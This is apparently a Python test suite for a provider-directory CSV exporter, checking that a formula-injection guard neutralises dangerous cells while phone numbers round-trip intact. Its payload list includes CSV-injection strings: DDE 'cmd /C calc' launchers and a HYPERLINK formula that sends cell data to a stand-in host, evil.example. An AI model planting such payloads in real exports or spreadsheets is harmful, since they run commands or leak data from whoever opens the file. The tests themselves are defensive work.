"""The provider CSV export's formula guard is exactly as wide as it must be: every cell a spreadsheet
would run as a formula is neutralised (an apostrophe in front), and phone numbers in E.164 and the
Belgian ways of writing them are exported as they are and come back unchanged from export -> import."""

from __future__ import annotations

import csv
import io

from hypothesis import example, given, settings
from hypothesis import strategies as st

from trustdesk.domain.enums import ProviderKind
from trustdesk.domain.models import Provider
from trustdesk.domain.spreadsheet import reads_as_formula
from trustdesk.domain.text_forms import clean_text
from trustdesk.packs.provider_csv import CsvProblem, parse_providers_csv
from trustdesk.packs.provider_csv_export import export_providers_csv

# Known payloads (OWASP CSV injection and friends), and the same starts with anything after them.
PAYLOADS = ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+A1", "-A1", "=1+1", "+1+1", "-1+1", "\t=1",
            "\r=1", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", "+ 32 abc", "-0x1", "+32 2 123 45 67+A1",
            "+32e5", "-,1", "+'x'", "@", "=", "\t", "\r"]
CHARS = st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",))  # NUL: not a text file at all
NON_NUMERIC = st.characters(blacklist_characters="\x000123456789 .()/-\u00a0", blacklist_categories=("Cs",))
INJECTIONS = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(lambda start, rest: start + rest, st.sampled_from(["=", "@", "\t", "\r"]), st.text(CHARS, max_size=20)),
    # a sign, then anything that holds at least one character no number is made of
    st.builds(lambda sign, head, bad, tail: sign + head + bad + tail, st.sampled_from(["+", "-"]),
              st.text("0123456789 .()/-", max_size=6), NON_NUMERIC, st.text(CHARS, max_size=10)),
)

def _digits(n: int) -> st.SearchStrategy[str]:
    return st.text("0123456789", min_size=n, max_size=n)


PHONES = st.one_of(
    st.builds(lambda d: "+32" + d, _digits(8) | _digits(9)),                         # E.164 (Belgium)
    st.builds(lambda c, d: f"+{c}{d}", st.integers(1, 999), st.text("0123456789", min_size=6, max_size=12)),
    st.builds(lambda a, b, c, d: f"+32 {a} {b} {c} {d}", _digits(1), _digits(3), _digits(2), _digits(2)),
    st.builds(lambda a, b, c, d: f"+32 4{a} {b} {c} {d}", _digits(2), _digits(2), _digits(2), _digits(2)),
    st.builds(lambda a, b: f"+32 (0){a} {b}", _digits(1), _digits(7)),
    st.builds(lambda a, b, c, d: f"+32-{a}-{b}-{c}-{d}", _digits(1), _digits(3), _digits(2), _digits(2)),
    st.builds(lambda a, b, c, d: f"+32 {a}/{b}.{c}.{d}", _digits(2), _digits(3), _digits(2), _digits(2)),
    st.builds(lambda a, b, c, d: f"0{a}/{b}.{c}.{d}", _digits(1), _digits(3), _digits(2), _digits(2)),
    st.builds(lambda a, b, c, d: f"04{a} {b} {c} {d}", _digits(2), _digits(2), _digits(2), _digits(2)),
    st.builds(lambda a, b: f"0032 {a} {b}", _digits(1), _digits(7)),
    st.sampled_from(["1813", "112", "+32 2 123 45 67", "+32 470 12 34 56", "02 123 45 67", "-"]),
)


def _cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


@settings(max_examples=300, deadline=None)
@given(payload=INJECTIONS, column=st.sampled_from(["name", "organisation", "notes", "phone", "email", "region"]))
@example(payload="+cmd|' /C calc'!A0", column="phone")
@example(payload="=\xad", column="name")  # a soft hyphen: names are taken clean
def test_every_injection_payload_is_neutralised(payload: str, column: str) -> None:
    fields = {"name": "Dr. A", column: payload}
    provider = Provider(kind=ProviderKind.GP, **fields)  # type: ignore[arg-type]
    data = export_providers_csv([provider], "utf8")
    header, row = _cells(data)
    cell = row[header.index(column)]
    assert cell == "'" + payload  # the spreadsheet shows it as text, never runs it
    assert not reads_as_formula(cell)
    back = parse_providers_csv(data).rows[0]
    # (the importer trims cells, refuses control characters and over-long cells, and takes names without
    # bidirectional controls and zero-width characters: text_forms.clean_text)
    if back.provider is not None and payload == payload.rstrip():
        expected = clean_text(payload) if column in ("name", "organisation") else payload
        assert getattr(back.provider, column) == expected


@settings(max_examples=300, deadline=None)
@given(phone=PHONES, dialect=st.sampled_from(["excel-be", "utf8"]))
@example(phone="+32 2 123 45 67", dialect="excel-be")
@example(phone="+3221234567", dialect="utf8")
def test_phone_numbers_are_exported_as_they_are_and_round_trip(phone: str, dialect: str) -> None:
    provider = Provider(kind=ProviderKind.GP, name="Dr. B", phone=phone)
    data = export_providers_csv([provider], dialect)  # type: ignore[arg-type]
    delimiter = ";" if dialect == "excel-be" else ","
    header, row = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter)
    assert row[header.index("phone")] == phone  # no apostrophe in front
    preview = parse_providers_csv(data)
    assert preview.rows[0].provider == provider
    assert not any(i.problem is CsvProblem.FORMULA_LIKE for i in preview.rows[0].issues)


@given(value=st.text(max_size=30))
def test_the_guard_is_exactly_the_spreadsheet_rule(value: str) -> None:
    """An independent spelling of the rule: = @ tab CR always; a sign unless only digits and phone punctuation
    follow; anything else never."""
    if value[:1] in ("=", "@", "\t", "\r"):
        expected = True
    elif value[:1] in ("+", "-"):
        expected = any(ch not in "0123456789 .()/-\u00a0" for ch in value[1:])
    else:
        expected = False
    assert reads_as_formula(value) is expected
